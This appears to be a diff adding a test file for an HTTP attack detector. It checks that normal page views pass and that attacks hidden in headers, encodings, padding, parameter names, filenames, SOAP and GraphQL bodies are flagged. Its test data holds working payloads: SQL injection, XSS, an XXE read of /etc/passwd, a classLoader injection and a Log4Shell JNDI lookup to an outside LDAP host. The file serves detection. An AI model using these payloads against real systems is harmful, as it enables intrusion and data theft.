@@ -1,0 +1,80 @@
+/**
+ * The generic model on attacks wherever they sit and on ordinary page views of sites it never saw:
+ * a Referer or Origin is where a request came from (its URL is never SSRF or a redirect), its query is
+ * judged like the site's own; nested encodings, padding and names carry attacks too; a site model
+ * never clears what the generic model flags.
+ */
+import { beforeAll, describe, expect, test } from "bun:test";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { Detector } from "../../src/detect/detector.ts";
+import { rawHttpParser } from "../../src/parse/raw-http.ts";
+import { isParseError, type HttpRequest } from "../../src/core/http-request.ts";
+import { compileLogFormat, COMBINED_FORMAT } from "../../src/parse/log-format.ts";
+import { trainSiteModel } from "../../src/detect/site/train.ts";
+import { shopLogLines } from "../helpers/site-traffic.ts";
+import { tempDir } from "../helpers/tmp.ts";
+
+function req(raw: string): HttpRequest {
+  const r = rawHttpParser.parse(raw, { source: "test" });
+  if (isParseError(r)) throw new Error(r.reason);
+  return r;
+}
+
+let detector: Detector;
+beforeAll(async () => {
+  detector = await Detector.load();
+});
+
+describe("ordinary page views of sites never seen", () => {
+  test("the site's own address in Referer and Origin, with a port or a name, new pages and campaign parameters: not flagged", async () => {
+    const views = [
+      "GET /products/p41 HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nReferer: http://127.0.0.1:8080/products?id=3\r\n\r\n",
+      "GET /blog/winter-sale-2026?utm_campaign=xmas-2026&lang=fr HTTP/1.1\r\nHost: shop.example.com\r\nReferer: https://shop.example.com/cart?item=5\r\nOrigin: https://shop.example.com\r\n\r\n",
+      "POST /api/cart HTTP/1.1\r\nHost: shop.example.com\r\nOrigin: http://localhost:3000\r\nContent-Type: application/json\r\n\r\n{\"statusCode\":200,\"sessionId\":\"abc\",\"items\":[{\"id\":7}]}",
+    ];
+    const verdicts = await detector.judge(views.map(req));
+    expect(verdicts.map((v) => v.isAnomaly)).toEqual([false, false, false]);
+  });
+});
+
+describe("attacks wherever they sit", () => {
+  const cases: [string, string, string, string][] = [
+    ["in a Referer's query", "GET / HTTP/1.1\r\nHost: a\r\nReferer: https://shop.example.com/search?id=1%27%20UNION%20SELECT%20password%20FROM%20users--\r\n\r\n", "sqli", "header.referer.query.id"],
+    ["as base64 of JSON inside a parameter", `GET /q?data=${Buffer.from(JSON.stringify({ q: "1' OR '1'='1" })).toString("base64")} HTTP/1.1\r\nHost: a\r\n\r\n`, "sqli", "query.data~base64"],
+    ["after 5,000 characters of padding", `GET /q?x=${"a".repeat(5000)}%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\nHost: a\r\n\r\n`, "sqli", "query.x"],
+    ["in a parameter's name (a framework's property path)", "POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "code-injection", "body.class.module.classLoader.resources.context.parent.pipeline.first.pattern"],
+    ["in a multipart file name", "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=XX\r\n\r\n--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"<img src=x onerror=alert(1)>.png\"\r\n\r\nhello\r\n--XX--\r\n", "xss", ""],
+    ["in a SOAP body's DOCTYPE", "POST /ws HTTP/1.1\r\nHost: a\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><a>&x;</a></soap:Body></soap:Envelope>", "xxe", ""],
+    ["in a GraphQL argument", "POST /graphql HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n{\"query\":\"{ user(name: \\\"x' OR 1=1--\\\") { id } }\"}", "sqli", ""],
+  ];
+  for (const [where, raw, cls, field] of cases) {
+    test(`flags an attack ${where}, names its class and the leaf`, async () => {
+      const [v] = await detector.judge([req(raw)]);
+      expect(v!.isAnomaly).toBe(true);
+      expect(v!.attackType).toBe(cls);
+      if (field) expect(v!.reasons[0]!.field).toBe(field);
+      expect(v!.reasons[0]!.evidence.length).toBeGreaterThan(0);
+    });
+  }
+});
+
+test("a site model never clears a generic flag: a JNDI lookup in the User-Agent stays flagged on a site whose profile knows the page", async () => {
+  const parser = compileLogFormat({ name: "combined", format: COMBINED_FORMAT });
+  const traffic = shopLogLines(2000, 5).map((line) => {
+    const r = parser.parse(line, { source: "shop" });
+    if (isParseError(r)) throw new Error(r.reason);
+    return r;
+  });
+  const trained = await trainSiteModel(traffic, detector.generic, { targetFpr: 0.01, seed: 1 });
+  const dir = tempDir();
+  writeFileSync(join(dir, "site.onnx"), trained.bytes);
+  const withSite = await Detector.load({ site: dir });
+  const attack = req("GET /products?id=12&color=red HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: ${${::-j}ndi:ldap://198.51.100.7:1389/a}\r\n\r\n");
+  const [alone] = await detector.judge([attack]);
+  const [v] = await withSite.judge([attack]);
+  expect(alone!.attackType).toBe("log4shell");
+  expect(v!.isAnomaly).toBe(true);
+  expect(v!.attackType).toBe("log4shell");
+  expect(v!.score).toBeGreaterThanOrEqual(alone!.score);
+});
